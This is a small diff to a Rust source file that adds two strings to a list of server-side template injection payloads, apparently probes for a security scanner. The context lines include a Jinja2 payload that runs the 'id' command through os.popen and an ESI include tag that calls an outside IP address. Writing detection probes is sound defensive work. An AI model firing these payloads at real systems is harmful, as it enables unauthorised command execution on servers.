@@ -196,6 +196,8 @@ pub const FAMILIES: &[Family] = &[
             "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
             "[[${7*7}]]",
             "<esi:include src=\"http://203.0.113.9/x\"/>",
+            "${{<%[%'\"}}%\\.",
+            "*{7*7}",
         ],
     },
     Family {
